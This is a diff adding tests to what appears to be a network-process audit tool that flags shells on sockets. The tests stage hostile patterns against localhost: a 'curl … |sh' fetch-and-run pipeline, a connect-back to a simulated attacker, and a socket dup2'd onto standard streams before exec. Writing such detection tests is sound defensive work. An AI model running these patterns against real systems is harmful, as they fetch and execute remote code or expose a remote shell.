@@ -101,6 +101,46 @@ def test_shells_behind_relays():
         expect(audit("dport = %d" % port), p.pid, "unexplained", "generic-tool")
 
 
+def test_shells_in_pipelines():
+    """What a shell was told when it was started is nobody's typing, nor is what a client fetches."""
+    popen = ("import socket,subprocess\ns=socket.create_connection(('127.0.0.1',%d))\n"
+             "p=subprocess.Popen('cat >/dev/null; true',shell=True,stdin=subprocess.PIPE)\ns.recv(1)")
+    with Scene() as s:
+        sock, port = s.attacker()
+        script = s.start("/usr/bin/python3", "-c", popen % port)
+        s.accept(sock)
+        both = s.start("/usr/bin/python3", "-c", "import subprocess\nsubprocess.run('exec curl -s http://127.0.0.1:%d/|sh',"
+                       "shell=True,stdin=subprocess.PIPE,stdout=subprocess.PIPE)" % port)
+        s.accept(sock)
+        time.sleep(0.3)
+        doc = audit("dport = %d" % port)
+        found = expect(doc, script.pid, "unexplained", "generic-tool")
+        live.holds("shell-behind-relay" not in found[0]["rules"], found[0])
+        live.equal({f["verdict"] for f in doc["findings"] if both.pid not in scene.pids(f)}, {"explained", "unexplained"},
+                   "a client in a pipeline")
+        live.holds(not any("shell-behind-relay" in f["rules"] for f in doc["findings"]), doc["findings"])
+
+
+def test_services_that_are_handed_their_conversation():
+    """A program of no package whose standard streams are a conversation: inetd's is a service, nobody's a shell."""
+    handed = ("import os,socket\nl=socket.create_server(('127.0.0.1',7302))\ns,_=l.accept()\nif os.fork()==0:\n"
+              " [os.dup2(s.fileno(),i) for i in (0,1,2)]\n os.execv('/srv/service',['service'])\nos.wait()")
+    with Scene() as s:
+        s.copy("/srv/service", "/bin/cat")
+        with open("/srv/inetd.conf", "w") as f:
+            f.write("127.0.0.1:7301 stream tcp nowait root /srv/service service\n")
+        s.start("/usr/sbin/inetd", "-i", "/srv/inetd.conf")
+        s.start("/usr/bin/python3", "-c", handed)
+        for port in (7301, 7302):
+            scene.wait_until("%d listens" % port, lambda p=port: scene.listens(p))
+            s.sockets.append(socket.create_connection(("127.0.0.1", port)))
+        scene.wait_until("both serve", lambda: len(live.rows("exe /srv/service", columns="pid")) == 2)
+        found = {f["conversation"]["local_port"]: f for f in audit("exe /srv/service")["findings"]}
+        live.equal(found[7301]["verdict"], "unexplained", found[7301]["evidence"])
+        live.equal(found[7302]["verdict"], "suspicious", found[7302]["evidence"])
+        live.holds("shell-on-socket" in found[7302]["rules"], found[7302]["rules"])
+
+
 def test_names():
     with Scene() as s:
         made = [
@@ -658,7 +698,14 @@ def test_packaged_scripts():
             runs = [(7001, s.start("sh", "-c", place, "sh", "/opt/server", 7001), "explained"),
                     (7002, s.start("/opt/server", 7002), "unexplained"),
                     (7003, s.start("sh", "-c", place, "sh", other, 7003), "unexplained"),
-                    (7004, s.start("sh", "-c", place, "sh", "/usr/bin/python3", "-", 7004), "unexplained")]
+                    (7004, s.start("sh", "-c", place, "sh", "/usr/bin/python3", "-", 7004), "unexplained"),
+                    (7005, s.start("sh", "-c", place, "sh", "/usr/bin/python3", "-uB", "/opt/server", 7005), "explained"),
+                    # options whose value looks like the script
+                    (7006, s.start("sh", "-c", place, "sh", "/usr/bin/python3", "-X", "/opt/server", "-c", SCRIPT.decode(),
+                                   7006), "unexplained"),
+                    (7007, s.start("sh", "-c", place, "sh", "/usr/bin/perl", "-I", "/opt/server", "-MIO::Socket::INET", "-e",
+                                   "$s=IO::Socket::INET->new(LocalAddr=>'127.0.0.1:7007',Listen=>1);sleep 60"),
+                     "unexplained")]
             runs[3][1].stdin.write(SCRIPT.replace(b"sys.stdin.read()", b"import time; time.sleep(60)"))
             runs[3][1].stdin.close()
             scene.wait_until("they listen", lambda: all(scene.listens(port) for port, _, _ in runs))
